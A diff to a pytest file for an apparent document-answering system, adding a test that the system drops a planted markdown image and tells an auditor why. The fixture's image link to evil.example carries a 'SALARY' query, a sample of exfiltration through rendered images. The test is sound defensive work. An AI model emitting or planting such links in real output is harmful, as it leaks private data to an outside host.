@@ -9,7 +9,7 @@ from typing import Literal
 
 import pytest
 from starlette.testclient import TestClient
-from tests.entrypoints.console.conftest import Browse, browsing, organisation
+from tests.entrypoints.console.conftest import Browse, browsing, organisation, put
 from tests.entrypoints.console.test_frame import token
 
 import affidavit
@@ -124,6 +124,21 @@ def test_a_replay_is_identical_and_a_counterfactual_stands_side_by_side(
     explained = send(client, f"/runs/{run}", f"/runs/{run}/explain")
     assert "What did it not see" in explained
     assert "bonus.md" in explained
+
+
+def test_why_sentences_were_left_out_is_explained(tmp_path: Path) -> None:
+    with organisation(tmp_path) as ws, browsing(ws) as browse:
+        menu = "# Canteen\n\nThe canteen serves soup at noon.\n\nThe canteen menu: ![ok](https://evil.example/p.png?q=SALARY).\n"
+        put(tmp_path / "docs", {"staff/canteen.md": menu})
+        ws.sync()
+        tenant = ws.parts.tenant("")
+        ws.people.grant(tenant, "user:dave", "audit:replay")
+        run = ask(browse("alice"), "What does the canteen serve at noon?")
+        found = ws.replays.explain(tenant, run, "user:dave")["not_seen"]["left_out"]
+        assert found == ["image"]
+        page = send(browse("dave"), f"/runs/{run}", f"/runs/{run}/explain")
+        assert "left out" in page
+        assert "<bdi>image</bdi>" in page
 
 
 def test_without_the_grant_nobody_replays(browse: Browse) -> None:
